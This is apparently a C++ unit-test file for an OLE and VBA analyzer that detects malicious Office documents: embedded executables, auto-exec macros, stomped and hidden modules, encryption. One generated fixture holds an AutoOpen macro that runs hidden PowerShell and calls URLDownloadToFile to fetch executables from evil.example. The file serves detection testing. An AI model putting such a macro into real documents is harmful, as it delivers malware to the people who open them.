// OleAnalyzer on real files (clamav-testfiles, the shared corpus) and generated projects, and
// end to end through lg::Scan so embedded objects are followed to their descendants.
#include "analyzers/ole/ole_analyzer.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "analyzers/ole/vba_fixture.h"
#include "core/file_type.h"
#include "core/testing/recording_context.h"
#include "engine/scan.h"
#include "formats/cfb/cfb_builder.h"

namespace lg {
namespace {

using testing::CfbBuilder;
using testing::literal_container;
using testing::Module;
using testing::raw_container;
using testing::RecordingContext;
using testing::vba_document;

RecordingContext run_bytes(ByteView data) {
  RecordingContext ctx;
  OleAnalyzer a;
  EXPECT_TRUE(a.analyze(data, ctx).is_ok());
  return ctx;
}
RecordingContext run_file(const std::string& path) {
  std::string data = testing::read_file(path);
  EXPECT_FALSE(data.empty()) << path;
  return run_bytes(as_bytes(data));
}
std::vector<std::string> list(const RecordingContext& ctx, const std::string& key) {
  auto it = ctx.facts.find(key);
  if (it == ctx.facts.end()) return {};
  auto* v = std::get_if<std::vector<std::string>>(&it->second);
  return v ? *v : std::vector<std::string>{};
}

TEST(OleAnalyzer, ClamOleDocEmbedsClamExeAsPackage) {
  RecordingContext ctx = run_file("/usr/share/clamav-testfiles/clam.ole.doc");
  EXPECT_EQ(ctx.str("author"), "acab");
  EXPECT_EQ(ctx.str("created"), "2008-08-03T22:09:00Z");
  EXPECT_EQ(ctx.str("app_name"), "Microsoft Office Word");
  EXPECT_EQ(ctx.str("ole_root_clsid"), "{00020906-0000-0000-C000-000000000046}");
  EXPECT_EQ(ctx.str("package_path"), "C:\\clam.exe");
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.relation, "package");
  EXPECT_EQ(ctx.children[0].info.name, "Clam.exe");
  EXPECT_EQ(identify(ctx.children[0].data), FileType::kPe);
  EXPECT_EQ(ctx.children[0].data.size(), 544u);
  EXPECT_TRUE(ctx.has(Symbol::OFFICE_EMBEDDED_EXECUTABLE));
  EXPECT_FALSE(ctx.has(Symbol::VBA_MACRO));
  EXPECT_EQ(std::get<bool>(ctx.facts.at("has_vba")), false);
  auto entries = list(ctx, "ole_entries");
  EXPECT_NE(std::find(entries.begin(), entries.end(), "ObjectPool/_1279313719/\x01Ole10Native"),
            entries.end());
}

// End to end: clam.ppt keeps clam.exe in a compressed ExOleObjStg of the PowerPoint Document
// stream; the engine follows it to a PE two levels down.
TEST(OleAnalyzer, ClamPptReachesClamExeThroughTheEngine) {
  Config config = default_config();
  TextScanner scanner;
  Report r;
  Scan scan(config, scanner, r, [](FileType t) -> std::unique_ptr<Analyzer> {
    if (t == FileType::kOle2) return std::make_unique<OleAnalyzer>();
    return make_analyzer(t);
  });
  std::string data = testing::read_file("/usr/share/clamav-testfiles/clam.ppt");
  scan.run("clam.ppt", as_bytes(data));
  bool pe = false;
  for (const auto& o : r.objects) pe = pe || (o.type == "pe" && o.depth == 2);
  EXPECT_TRUE(pe);
  bool embedded = std::any_of(r.findings.begin(), r.findings.end(), [](const Finding& f) {
    return f.symbol == "OFFICE_EMBEDDED_EXECUTABLE";
  });
  EXPECT_TRUE(embedded);
}

TEST(OleAnalyzer, SampleWithVbaPptIsReadInPlace) {
  RecordingContext ctx = run_file(LG_SHARED_DIR "/corpus/office/olevba/sample_with_vba.ppt");
  EXPECT_EQ(list(ctx, "vba_modules"), std::vector<std::string>{"Module1"});
  EXPECT_TRUE(ctx.has(Symbol::VBA_AUTOEXEC));
  EXPECT_NE(ctx.all_text(TextKind::kMacro).find("MsgBox \"The action button clicked!\""),
            std::string::npos);
  EXPECT_EQ(ctx.str("title"), "PPT VBA TEST");
}

TEST(OleAnalyzer, GeneratedMacroWithMraptorRule) {
  std::string code =
      "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n"
      "  Set x = CreateObject(\"WScript.Shell\")\r\n"
      "  x.Run \"powershell -w hidden -c iwr http://evil.example/a.exe\"\r\n"
      "  URLDownloadToFile 0, \"http://evil.example/b\", Environ(\"TEMP\") & \"\\b.exe\", 0, 0\r\n"
      "  s = StrReverse(\"exe.dmc\")\r\nEnd Sub\r\n";
  Bytes doc = vba_document({{"Module1", code, 40}}, {"Module1"});
  RecordingContext ctx = run_bytes(doc);
  EXPECT_EQ(list(ctx, "vba_modules"), std::vector<std::string>{"Module1"});
  for (Symbol s :
       {Symbol::VBA_MACRO, Symbol::VBA_AUTOEXEC, Symbol::VBA_EXECUTE, Symbol::VBA_DOWNLOAD,
        Symbol::VBA_OBFUSCATION, Symbol::VBA_SUSPICIOUS, Symbol::VBA_AUTO_EXEC_WRITE_EXECUTE})
    EXPECT_TRUE(ctx.has(s)) << symbol_info(s).name;
  EXPECT_FALSE(ctx.has(Symbol::VBA_STOMPED));
  EXPECT_NE(ctx.all_text(TextKind::kMacro).find("http://evil.example/a.exe"), std::string::npos);
  auto exes = list(ctx, "vba_executable_names");
  EXPECT_NE(std::find(exes.begin(), exes.end(), "a.exe"), exes.end());
  // Evidence names the keyword and its line.
  for (const auto& f : ctx.findings)
    if (f.symbol == Symbol::VBA_DOWNLOAD) {
      EXPECT_EQ(f.evidence.value, "URLDownloadToFile");
      EXPECT_NE(f.evidence.detail.find("line 5"), std::string::npos) << f.evidence.detail;
    }
  // The hash ignores Attribute lines: another module name, same code, same hash.
  std::string renamed = code;
  renamed.replace(renamed.find("Module1"), 7, "Other12");
  RecordingContext again = run_bytes(vba_document({{"Module1", renamed, 40}}, {"Module1"}));
  EXPECT_EQ(ctx.str("vba_code_hash"), again.str("vba_code_hash"));
  EXPECT_EQ(ctx.str("vba_code_hash").size(), 64u);
}

TEST(OleAnalyzer, StompedAndHiddenModules) {
  // Empty source behind 3000 bytes of P-code: stomped.
  RecordingContext a = run_bytes(
      vba_document({{"Module1", "Attribute VB_Name = \"Module1\"\r\n", 3000}}, {"Module1"}));
  EXPECT_TRUE(a.has(Symbol::VBA_STOMPED));
  // An empty module with a small P-code cache is what Office writes: not stomped.
  RecordingContext b = run_bytes(
      vba_document({{"ThisDocument", "Attribute VB_Name = \"x\"\r\n", 500}}, {"ThisDocument"}));
  EXPECT_FALSE(b.has(Symbol::VBA_STOMPED));
  // A module missing from PROJECT is hidden from the editor.
  RecordingContext c = run_bytes(vba_document(
      {{"Module1", "Sub A()\r\nEnd Sub\r\n", 10}, {"Hidden", "Sub B()\r\nEnd Sub\r\n", 10}},
      {"Module1"}));
  EXPECT_TRUE(c.has(Symbol::VBA_STOMPED));
  EXPECT_EQ(list(c, "vba_modules").size(), 2u);
}

TEST(OleAnalyzer, CarvesSourceFromAFileWithoutDirectory) {
  Bytes junk(700, 0xEE);
  Bytes src = literal_container(
      "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n");
  junk.insert(junk.end(), src.begin(), src.end());
  Bytes file = {0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1};  // signature, then garbage
  file.insert(file.end(), junk.begin(), junk.end());
  RecordingContext ctx = run_bytes(file);
  EXPECT_TRUE(ctx.has(Symbol::OLE_MALFORMED));
  EXPECT_EQ(list(ctx, "vba_carved").size(), 1u);
  EXPECT_TRUE(ctx.has(Symbol::VBA_AUTO_EXEC_WRITE_EXECUTE));
}

TEST(OleAnalyzer, EncryptedDocuments) {
  for (const char* f : {"encrypted.doc", "encrypted.xls", "encrypted.ppt", "encrypted.docx",
                        "encrypted.xlsm", "encrypted.pptx"}) {
    RecordingContext ctx = run_file(std::string(LG_SHARED_DIR "/corpus/office/encrypted/") + f);
    EXPECT_TRUE(ctx.has(Symbol::OFFICE_ENCRYPTED)) << f;
  }
  RecordingContext clean = run_file(LG_SHARED_DIR "/corpus/office/msodde/harmless-clean.doc");
  EXPECT_FALSE(clean.has(Symbol::OFFICE_ENCRYPTED));
}

}  // namespace
}  // namespace lg
